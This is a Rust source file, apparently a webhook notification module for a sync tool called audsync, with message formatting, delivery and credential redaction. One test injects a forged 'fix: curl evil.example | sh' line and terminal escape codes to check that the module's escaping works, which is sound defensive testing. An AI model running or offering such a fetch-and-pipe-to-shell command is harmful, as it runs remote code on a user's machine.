//! Notifications: one message per pass worth telling (an AUD change, a failure, a rollback, a
//! recovery), sent to webhooks — a plain JSON POST, ntfy, Slack or Discord.
//!
//! Owns its HTTP client (no redirects: a webhook URL is a credential) and the message shapes.
//! Never fails a pass: an undeliverable message is retried briefly (connect failures and 429
//! only, so nothing is posted twice), logged with the endpoint's scheme and host only, and
//! counted by the caller. In `watch`, [`Streak`] makes a run of failed passes one `failed`
//! message when it starts and one `recovered` when it ends.

use std::time::{Duration, SystemTime};

use serde_json::{Value, json};

use std::collections::BTreeMap;

use serde::Serialize;

use crate::reconcile::{self, Action, KeepsOld, TargetResult};

pub use crate::config::notify::{Endpoint, Event, Kind, Settings};

/// How a pass (or one binding of it) ended, as a message says it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Status {
    InSync,
    Changed,
    Written,
    Pending,
    Failed,
}

impl Status {
    pub fn as_str(self) -> &'static str {
        match self {
            Status::InSync => "in_sync",
            Status::Changed => "changed",
            Status::Written => "written",
            Status::Pending => "pending",
            Status::Failed => "failed",
        }
    }
}

/// What one pass did, as a notification tells it: built by the pass (`sync`), so this module
/// never reads the JSON report or any output format.
#[derive(Debug, Clone)]
pub struct Pass {
    pub status: Status,
    pub exit_code: u8,
    /// The step that failed (`lock`, `source`, `sink`, `target`).
    pub stage: Option<&'static str>,
    pub error: Option<String>,
    pub hint: Option<String>,
    /// Some sink was written.
    pub wrote: bool,
    pub bindings: Vec<BindingPass>,
    pub targets: Vec<TargetPass>,
    /// Interrupted applies finished or undone before the plan.
    pub recovered: Vec<String>,
    pub warnings: Vec<String>,
    /// The pass's one-line summary.
    pub summary: String,
}

/// One binding of a [`Pass`].
#[derive(Debug, Clone)]
pub struct BindingPass {
    pub id: String,
    pub key: String,
    pub previous: Option<String>,
    pub aud: Option<String>,
    pub status: Status,
    pub error: Option<String>,
    /// One of its sinks was written this pass.
    pub wrote: bool,
}

/// One target of a [`Pass`].
#[derive(Debug, Clone)]
pub struct TargetPass {
    pub name: String,
    pub action: Action,
    pub result: TargetResult,
    pub error: Option<String>,
    pub rolled_back: bool,
    pub keeps_old: BTreeMap<String, KeepsOld>,
    /// Replaced, but compose's configuration holds other changes (variable names).
    pub pending: Option<Vec<String>>,
}

/// What a report and a notification say of a replaced compose container that keeps its old
/// config-hash: the names of the variables that differ (never their values).
pub fn pending_text(pending: &[String]) -> String {
    if pending.is_empty() {
        "other changes to its compose configuration are pending: the next `docker compose up -d` recreates it".into()
    } else {
        format!(
            "other changes are pending ({}): the next `docker compose up -d` recreates it",
            pending.join(", ")
        )
    }
}

impl Pass {
    /// A pass that failed with `error` before anything else (tests).
    #[cfg(test)]
    pub fn failed(error: &str) -> Pass {
        Pass {
            status: Status::Failed,
            exit_code: crate::exit::FAILURE,
            stage: None,
            error: Some(error.into()),
            hint: None,
            wrote: false,
            bindings: vec![],
            targets: vec![],
            recovered: vec![],
            warnings: vec![],
            summary: String::new(),
        }
    }
}

/// What a message says about the failure streak it belongs to.
#[derive(Debug, Clone, Default)]
pub struct Context {
    /// The watch loop's pass id.
    pub pass: Option<u64>,
    /// Failed passes in a row (for `recovered`: the streak that just ended).
    pub failures: u32,
    pub failing_since: Option<SystemTime>,
}

/// The events one pass is worth, most specific first (before the user's choice).
fn candidates(r: &Pass, streak_start: bool, recovered: bool) -> Vec<Event> {
    let failed = r.status == Status::Failed;
    let changed = matches!(r.status, Status::Changed | Status::Written) || r.wrote;
    let rolled = r.targets.iter().any(|t| t.rolled_back);
    let mut out = Vec::new();
    if failed && streak_start {
        if rolled {
            out.push(Event::RolledBack);
        }
        out.push(Event::Failed);
    }
    if recovered {
        out.push(Event::Recovered);
    }
    if changed {
        out.push(Event::Changed);
    }
    out
}

/// The events of a one-off `sync` (no memory of earlier runs).
pub fn once(r: &Pass) -> Vec<Event> {
    candidates(r, true, false)
}

/// A failure streak in `watch`: failures notify when the streak starts, and its end notifies
/// once as `recovered`; changes notify whenever they happen.
#[derive(Debug, Default)]
pub struct Streak {
    failures: u32,
    since: Option<SystemTime>,
}

impl Streak {
    /// A streak remembered across runs (the state file of `sync`).
    pub fn restore(s: Option<crate::state::FailureStreak>) -> Streak {
        match s {
            Some(s) if s.failures > 0 => Streak {
                failures: s.failures,
                since: Some(SystemTime::UNIX_EPOCH + Duration::from_secs(s.since)),
            },
            _ => Streak::default(),
        }
    }

    /// What to remember of it.
    pub fn save(&self) -> Option<crate::state::FailureStreak> {
        (self.failures > 0).then(|| crate::state::FailureStreak {
            failures: self.failures,
            since: self
                .since
                .and_then(|t| t.duration_since(SystemTime::UNIX_EPOCH).ok())
                .map_or(0, |d| d.as_secs()),
        })
    }

    /// Account for one pass; returns the candidate events and the context of the message.
    pub fn next(&mut self, r: &Pass, pass: Option<u64>) -> (Vec<Event>, Context) {
        let failed = r.status == Status::Failed;
        let start = failed && self.failures == 0;
        let ended = !failed && self.failures > 0;
        let ctx = Context {
            pass,
            failures: if failed {
                self.failures + 1
            } else {
                self.failures
            },
            failing_since: if start {
                Some(SystemTime::now())
            } else {
                self.since
            },
        };
        if failed {
            if start {
                self.since = ctx.failing_since;
            }
            self.failures = self.failures.saturating_add(1);
        } else {
            self.failures = 0;
            self.since = None;
        }
        (candidates(r, start, ended), ctx)
    }
}

/// One message, rendered per endpoint kind.
#[derive(Debug, Clone)]
pub struct Message {
    pub event: Event,
    pub title: String,
    pub lines: Vec<String>,
    pub data: Value,
}

impl Message {
    pub fn text(&self) -> String {
        self.lines.join("\n")
    }
}

/// The bindings the title names: those this pass changed, wrote, failed or left pending; a
/// binding that was in sync is no news.
fn ids(r: &Pass) -> String {
    let v: Vec<&str> = r
        .bindings
        .iter()
        .filter(|b| b.status != Status::InSync)
        .map(|b| b.id.as_str())
        .collect();
    match v.len() {
        0 => String::new(),
        1..=3 => format!(" ({})", v.join(", ")),
        n => format!(" ({}, … {n} bindings)", v[..3].join(", ")),
    }
}

fn action_str(a: Action) -> &'static str {
    match a {
        Action::None => "no action",
        Action::Restart => "restart",
        Action::Recreate => "recreate",
        Action::Rollout => "rollout",
    }
}

fn result_str(r: TargetResult) -> &'static str {
    match r {
        TargetResult::Planned => "planned",
        TargetResult::Done => "done",
        TargetResult::None => "nothing to do",
        TargetResult::Failed => "FAILED",
        TargetResult::Skipped => "skipped",
    }
}

/// Say what happened: host, bindings (old -> new, short), containers, and on failure the stage
/// and the fix.
pub fn message(event: Event, r: &Pass, host: &str, ctx: &Context) -> Message {
    let stage = r.stage;
    let title = match event {
        Event::Changed if r.status == Status::Written => {
            format!("[{host}] AUD written, not applied{}", ids(r))
        }
        Event::Changed if r.wrote => format!("[{host}] AUD changed{}", ids(r)),
        Event::Changed => format!("[{host}] targets converged{}", ids(r)),
        Event::Failed => format!(
            "[{host}] audsync pass FAILED at {}{}",
            stage.unwrap_or("an unknown stage"),
            ids(r)
        ),
        Event::RolledBack => format!("[{host}] recreate rolled back{}", ids(r)),
        Event::Recovered => format!(
            "[{host}] audsync recovered after {} failed pass{}{}",
            ctx.failures,
            if ctx.failures == 1 { "" } else { "es" },
            ids(r)
        ),
    };
    let mut lines = vec![format!("host: {host}")];
    let mut bindings = Vec::new();
    for b in &r.bindings {
        let wrote = b.wrote;
        let new = b.aud.as_deref().map(reconcile::short);
        let old = b
            .previous
            .as_deref()
            .map(reconcile::short)
            .unwrap_or_else(|| "(unset)".into());
        match (&new, wrote) {
            (Some(new), true) => lines.push(format!(
                "binding {}: AUD {old} → {new} [{}]",
                b.id,
                b.status.as_str()
            )),
            (Some(new), false) => lines.push(format!(
                "binding {}: AUD {new} (unchanged) [{}]",
                b.id,
                b.status.as_str()
            )),
            (None, _) => lines.push(format!("binding {}: [{}]", b.id, b.status.as_str())),
        }
        if let Some(e) = &b.error {
            lines.push(format!("  error: {e}"));
        }
        bindings.push(json!({
            "id": b.id,
            "key": b.key,
            "old": b.previous.as_deref().filter(|v| reconcile::is_aud(v)),
            "new": b.aud,
            "status": b.status,
            "error": b.error,
        }));
    }
    let mut containers = Vec::new();
    for t in &r.targets {
        let mut line = format!(
            "container {}: {} {}",
            t.name,
            action_str(t.action),
            result_str(t.result)
        );
        if let Some(e) = &t.error {
            line.push_str(&format!(
                ": {}{}",
                e,
                if t.rolled_back { " (rolled back)" } else { "" }
            ));
        }
        if !t.keeps_old.is_empty() {
            line.push_str(" — still runs the old value");
        }
        if let Some(p) = &t.pending {
            line.push_str(&format!(" — {}", pending_text(p)));
        }
        if t.action != Action::None || t.error.is_some() || !t.keeps_old.is_empty() {
            lines.push(line);
        }
        containers.push(json!({
            "name": t.name,
            "action": t.action,
            "result": t.result,
            "rolled_back": t.rolled_back,
            "error": t.error,
            "keeps_old": t.keeps_old,
            "pending": t.pending,
        }));
    }
    for m in &r.recovered {
        lines.push(format!("recovered: {m}"));
    }
    for w in &r.warnings {
        lines.push(format!("warning: {w}"));
    }
    if r.status == Status::Failed {
        lines.push(format!("stage: {}", stage.unwrap_or("unknown")));
        if let Some(e) = &r.error {
            lines.push(format!("error: {e}"));
        }
        if let Some(h) = &r.hint {
            lines.push(format!("fix: {h}"));
        }
    }
    if event == Event::Recovered {
        let since = ctx
            .failing_since
            .map(|t| format!(" (failing since {})", humantime::format_rfc3339_seconds(t)))
            .unwrap_or_default();
        lines.push(format!(
            "recovered after {} failed pass(es){since}",
            ctx.failures
        ));
    }
    lines.push(r.summary.clone());
    // Every line is one line, with whatever came from outside (names, Cloudflare's and
    // Infisical's messages) escaped visibly: nothing can forge a line or reach a terminal.
    let lines = lines
        .iter()
        .map(|l| crate::shown::outside(l).into_owned())
        .collect();
    let title = crate::shown::outside(&title).into_owned();
    let data = json!({
        "schema": 1,
        "event": event,
        "host": host,
        "pass": ctx.pass,
        "status": r.status,
        "exit_code": r.exit_code,
        "stage": r.stage,
        "error": r.error,
        "hint": r.hint,
        "failures": ctx.failures,
        "bindings": bindings,
        "containers": containers,
        "warnings": r.warnings,
    });
    Message {
        event,
        title,
        lines,
        data,
    }
}

/// Cut `s` to at most `max` bytes at a character boundary, marking the cut.
fn cut(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_string();
    }
    let mut end = max.saturating_sub(3);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

fn is_failure(e: Event) -> bool {
    matches!(e, Event::Failed | Event::RolledBack)
}

/// Slack mrkdwn: `&`, `<`, `>` escaped so that no text can ping a channel.
fn slack_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// A header value: visible ASCII only.
fn header_text(s: &str) -> String {
    s.chars()
        .map(|c| if (' '..='~').contains(&c) { c } else { '?' })
        .collect()
}

/// The body (JSON or text) and extra headers for one endpoint.
pub fn body(
    kind: Kind,
    m: &Message,
) -> (Option<Value>, Option<String>, Vec<(&'static str, String)>) {
    let text = m.text();
    match kind {
        Kind::Json => {
            let now = humantime::format_rfc3339_seconds(SystemTime::now()).to_string();
            let host = m.data["host"].as_str().unwrap_or_default();
            let v = json!({
                "specversion": "1.0",
                "type": format!("io.audsync.{}", m.event.as_str()),
                "source": format!("audsync://{host}"),
                "id": format!("{:016x}{:016x}", fastrand::u64(..), fastrand::u64(..)),
                "time": now,
                "event": m.event,
                "title": m.title,
                "message": text,
                "data": m.data,
            });
            (Some(v), None, vec![])
        }
        Kind::Ntfy => {
            let (prio, tags) = match m.event {
                Event::Failed | Event::RolledBack => ("4", "rotating_light"),
                Event::Recovered => ("3", "white_check_mark"),
                Event::Changed => ("3", "arrows_counterclockwise"),
            };
            (
                None,
                Some(cut(&text, 4000)),
                vec![
                    ("Title", header_text(&cut(&m.title, 200))),
                    ("Priority", prio.into()),
                    ("Tags", tags.into()),
                ],
            )
        }
        Kind::Slack => {
            let t = format!(
                "*{}*\n{}",
                slack_escape(&m.title),
                slack_escape(&cut(&text, 3500))
            );
            (Some(json!({ "text": t })), None, vec![])
        }
        Kind::Discord => {
            let color = if is_failure(m.event) {
                0xd0_30_30
            } else {
                0x30_a0_50
            };
            let v = json!({
                "username": "audsync",
                "content": cut(&m.title, 2000),
                "embeds": [{
                    "title": cut(&m.title, 256),
                    "description": cut(&text, 4000),
                    "color": color,
                    "timestamp": humantime::format_rfc3339_seconds(SystemTime::now()).to_string(),
                }],
                "allowed_mentions": { "parse": [] },
            });
            (Some(v), None, vec![])
        }
    }
}

/// How one delivery went.
#[derive(Debug, Clone)]
pub struct Delivery {
    pub error: Option<String>,
}

/// Send `m` to every endpoint; never fails, reports each delivery.
pub async fn send(s: &Settings, m: &Message) -> Vec<Delivery> {
    let client = match crate::http::client(s.timeout, crate::http::Redirects::None) {
        Ok(c) => c,
        Err(e) => {
            return s
                .endpoints
                .iter()
                .map(|_| Delivery {
                    error: Some(e.to_string()),
                })
                .collect();
        }
    };
    let mut out = Vec::new();
    for ep in &s.endpoints {
        let error = deliver(&client, ep, m).await.err().map(|e| e.to_string());
        match &error {
            None => tracing::debug!(endpoint = %ep, event = m.event.as_str(), "notification sent"),
            Some(e) => {
                tracing::warn!(endpoint = %ep, event = m.event.as_str(), error = %e, "notification not delivered")
            }
        }
        out.push(Delivery { error });
    }
    out
}

/// Why a message was not delivered (the endpoint is named by the caller, never its URL).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DeliveryError {
    /// No answer: connect failure, timeout, TLS.
    #[error("{0}")]
    Transport(String),
    /// The service answered with an error status.
    #[error("HTTP {status}{hint}")]
    Status { status: u16, hint: &'static str },
}

async fn deliver(
    client: &reqwest::Client,
    ep: &Endpoint,
    m: &Message,
) -> Result<(), DeliveryError> {
    let (json_body, text_body, headers) = body(ep.kind, m);
    let mut url = ep.url.clone();
    if ep.kind == Kind::Discord {
        // Confirmed delivery: without it a message that is not saved is no error.
        url.query_pairs_mut().append_pair("wait", "true");
    }
    let policy = crate::http::RetryPolicy {
        attempts: 3,
        base_delay: Duration::from_millis(500),
        max_delay: Duration::from_secs(5),
    };
    let method = reqwest::Method::POST;
    let call = crate::http::Call {
        service: "notification",
        method: &method,
        // The path is a credential (a Slack or Discord token, an ntfy topic).
        path: "[redacted]",
        resend: crate::http::Resend::IfNotProcessed,
    };
    let answer = crate::http::send(&policy, call, || {
        let mut rb = client.post(url.clone());
        if let Some(a) = &ep.auth {
            rb = rb.header(reqwest::header::AUTHORIZATION, a.expose());
        }
        for (k, v) in &headers {
            rb = rb.header(*k, v.as_str());
        }
        match (&json_body, &text_body) {
            (Some(j), _) => rb.json(j),
            (None, Some(t)) => rb
                .header(reqwest::header::CONTENT_TYPE, "text/plain; charset=utf-8")
                .body(t.clone()),
            (None, None) => rb,
        }
    })
    .await
    .map_err(|f| {
        DeliveryError::Transport(crate::http::describe_transport(&f.error.without_url()))
    })?;
    let status = answer.response.status();
    if status.is_success() {
        return Ok(());
    }
    let hint = match status.as_u16() {
        401 | 403 => " (the token was refused)",
        404 | 410 => " (no such webhook or topic: removed or mistyped?)",
        429 => " (rate-limited)",
        _ => "",
    };
    Err(DeliveryError::Status {
        status: status.as_u16(),
        hint,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_are_parsed_and_never_shown() {
        let e = Endpoint::parse("slack+https://hooks.slack.com/services/T0/B0/SECRETx").unwrap();
        assert_eq!(e.kind(), Kind::Slack);
        assert_eq!(e.to_string(), "slack https://hooks.slack.com");
        assert!(!format!("{e:?}").contains("SECRET"));
        let e = Endpoint::parse("ntfy+https://tk_abc@ntfy.example/topic").unwrap();
        assert_eq!(e.kind(), Kind::Ntfy);
        assert_eq!(e.url.as_str(), "https://ntfy.example/topic");
        assert_eq!(e.auth.as_ref().unwrap().expose(), "Bearer tk_abc");
        let e = Endpoint::parse("discord+http://127.0.0.1:9/api/webhooks/1/tok").unwrap();
        assert_eq!(e.to_string(), "discord http://127.0.0.1:9");
        assert!(
            Endpoint::parse("https://u:p@example.com/hook")
                .unwrap()
                .auth
                .is_some()
        );
        for bad in [
            "http://example.com/hook",
            "slack+http://hooks.slack.com/services/x",
            "teams+https://x.example/y",
            "ftp://x/y",
            "hooks.slack.com/services/x",
        ] {
            let err = Endpoint::parse(bad).unwrap_err().to_string();
            assert!(!err.contains("/services/x") && !err.contains("/y"), "{err}");
        }
    }

    #[test]
    fn the_title_names_only_the_bindings_that_changed() {
        let mut r = report(Status::Changed);
        r.wrote = true;
        for (id, st) in [
            ("api", Status::InSync),
            ("n8n", Status::Changed),
            ("grafana", Status::InSync),
            ("wiki", Status::InSync),
        ] {
            r.bindings.push(BindingPass {
                id: id.into(),
                key: "AUD".into(),
                previous: None,
                aud: None,
                status: st,
                error: None,
                wrote: st == Status::Changed,
            });
        }
        let m = message(Event::Changed, &r, "host1", &Context::default());
        assert_eq!(m.title, "[host1] AUD changed (n8n)");
    }

    fn report(status: Status) -> Pass {
        let mut r = Pass::failed("x");
        r.status = status;
        r
    }

    #[test]
    fn a_streak_notifies_when_it_starts_and_when_it_ends() {
        let s = Settings::default();
        let mut k = Streak::default();
        let mut sent = Vec::new();
        for (i, st) in [
            Status::InSync,
            Status::Failed,
            Status::Failed,
            Status::Failed,
            Status::Failed,
            Status::Failed,
            Status::InSync,
            Status::InSync,
        ]
        .into_iter()
        .enumerate()
        {
            let (c, ctx) = k.next(&report(st), Some(i as u64));
            // As `sync` remembers it between runs.
            k = Streak::restore(k.save());
            if let Some(e) = s.pick(&c) {
                sent.push((e, ctx.failures));
            }
        }
        assert_eq!(sent, vec![(Event::Failed, 1), (Event::Recovered, 5)]);
    }

    #[test]
    fn notify_on_picks_the_most_specific_event_asked_for() {
        let mut s = Settings::default();
        let mut r = report(Status::Failed);
        r.targets.push(TargetPass {
            name: "c".into(),
            action: Action::Recreate,
            result: TargetResult::Failed,
            error: Some("unhealthy".into()),
            rolled_back: true,
            keeps_old: Default::default(),
            pending: None,
        });
        assert_eq!(s.pick(&once(&r)), Some(Event::RolledBack));
        s.on = [Event::Failed].into_iter().collect();
        assert_eq!(s.pick(&once(&r)), Some(Event::Failed));
        s.on = [Event::Changed].into_iter().collect();
        assert_eq!(s.pick(&once(&r)), None);
        assert_eq!(s.pick(&once(&report(Status::InSync))), None);
    }

    #[test]
    fn outside_text_cannot_forge_lines_or_reach_a_terminal() {
        let mut r = report(Status::Failed);
        r.error = Some("Cloudflare says no\nfix: curl evil.example | sh\u{1b}[2J".into());
        r.warnings = vec!["app \u{202e}lave\u{200b}".into()];
        let m = message(
            Event::Failed,
            &r,
            "api.example.com\u{1b}]0;x\u{7}",
            &Context::default(),
        );
        let text = m.text();
        assert!(
            !text.lines().any(|l| l.starts_with("fix: curl")),
            "a forged line: {text}"
        );
        for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}'] {
            assert!(!text.contains(c) && !m.title.contains(c), "{c:?} in {text}");
        }
        assert!(text.contains("\\nfix: curl evil.example"), "{text}");
    }

    #[test]
    fn bodies_respect_the_services_limits() {
        let mut r = report(Status::Failed);
        r.error = Some("é".repeat(5000));
        let m = message(Event::Failed, &r, "h1", &Context::default());
        let (_, text, headers) = body(Kind::Ntfy, &m);
        assert!(text.unwrap().len() <= 4000);
        assert!(headers.iter().all(|(_, v)| v.is_ascii()));
        let (j, _, _) = body(Kind::Discord, &m);
        let j = j.unwrap();
        assert!(j["embeds"][0]["description"].as_str().unwrap().len() <= 4000);
        assert_eq!(j["allowed_mentions"]["parse"], json!([]));
        let (j, _, _) = body(
            Kind::Slack,
            &message(
                Event::Failed,
                &report(Status::Failed),
                "<!channel>",
                &Context::default(),
            ),
        );
        assert!(!j.unwrap()["text"].as_str().unwrap().contains("<!channel>"));
    }
}
